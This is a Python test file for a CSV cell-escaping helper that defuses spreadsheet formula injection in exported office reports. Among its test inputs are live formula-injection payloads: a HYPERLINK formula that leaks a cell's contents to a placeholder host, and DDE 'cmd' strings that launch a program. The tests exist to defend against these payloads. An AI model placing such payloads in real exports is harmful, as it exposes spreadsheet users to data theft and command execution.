"""CSV cells the office opens in Excel: text that a spreadsheet would run as a formula is
written with a leading apostrophe; numbers stay plain numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.csv_cells import FORMULA_TRIGGERS, SafeCsvWriter, safe_cell

HOSTILE = [
    '=HYPERLINK("http://x/?d="&B3,"Chi tiết")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=2+3.pdf",
    "\t=1+1",
    "\r=1+1",
]


def test_the_triggers_are_owasps() -> None:
    assert frozenset("=+-@\t\r") == FORMULA_TRIGGERS


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "Trường THPT Quốc Học Quy Nhơn",
        "THPT-QH",  # a dash inside is harmless
        "1 + 1 = 2",
        " =1+1",  # Excel reads a leading space as text
        "'=1+1",  # already marked as text
        "2025-03-15T09:14:00+07:00",
        "Báo cáo CCHC quý I.pdf",
        "\n=1+1",
    ],
)
def test_safe_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (1250, "1250"),
        (0, "0"),
        (-2, "-2"),
        (Decimal("92.5"), "92.5"),
        (Decimal("96.00"), "96.00"),  # the caller's precision is kept
        (Decimal("-3.25"), "-3.25"),
        (Decimal("1E+3"), "1000"),  # never scientific notation
        (92.5, "92.5"),
        (-0.5, "-0.5"),
        (1e20, "100000000000000000000"),
    ],
)
def test_numbers_are_plain_numbers_and_never_prefixed(
    value: int | float | Decimal, written: str
) -> None:
    assert safe_cell(value) == written


@pytest.mark.parametrize("value", [None, ""])
def test_nothing_is_an_empty_cell(value: str | None) -> None:
    assert safe_cell(value) == ""


@pytest.mark.parametrize("value", [True, False])
def test_a_yes_no_must_be_written_in_words(value: bool) -> None:
    with pytest.raises(TypeError):
        safe_cell(value)


@pytest.mark.parametrize("value", [Decimal("NaN"), Decimal("Infinity"), float("inf")])
def test_a_number_that_is_not_finite_is_a_bug(value: Decimal | float) -> None:
    with pytest.raises(ValueError, match="finite"):
        safe_cell(value)


@given(st.text())
@example("=")
@example("-")
@example("'")
@example("\r\n")
def test_no_text_cell_starts_like_a_formula_and_the_text_comes_back(text: str) -> None:
    cell = safe_cell(text)

    assert cell[:1] not in FORMULA_TRIGGERS
    if cell != text:
        assert cell.startswith("'")
        assert cell[1:] == text
        assert text[0] in FORMULA_TRIGGERS


@given(st.integers() | st.decimals(allow_nan=False, allow_infinity=False))
def test_numbers_read_back_as_the_same_number(value: int | Decimal) -> None:
    assert Decimal(safe_cell(value)) == value


def test_the_writer_neutralises_every_text_cell_and_nothing_else() -> None:
    out = io.StringIO(newline="")
    writer = SafeCsvWriter(out)

    writer.writerow(["unit_code", "unit_name", "version", "sipas_rate", "articles"])
    writer.writerows(
        [
            ["THPT-QH", "=cmd|' /C calc'!A0", 1, Decimal("92.5"), -2],
            ["-VP", None, "", "", ""],
        ]
    )

    assert out.getvalue() == (
        "unit_code,unit_name,version,sipas_rate,articles\r\n"
        "THPT-QH,'=cmd|' /C calc'!A0,1,92.5,-2\r\n"
        "'-VP,,,,\r\n"
    )
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[1] == ["THPT-QH", "'=cmd|' /C calc'!A0", "1", "92.5", "-2"]


def test_a_multi_line_text_stays_one_quoted_cell() -> None:
    out = io.StringIO(newline="")

    SafeCsvWriter(out).writerow(['-Một cửa "số"\n=1+1', "x"])

    assert out.getvalue() == '"\'-Một cửa ""số""\n=1+1",x\r\n'
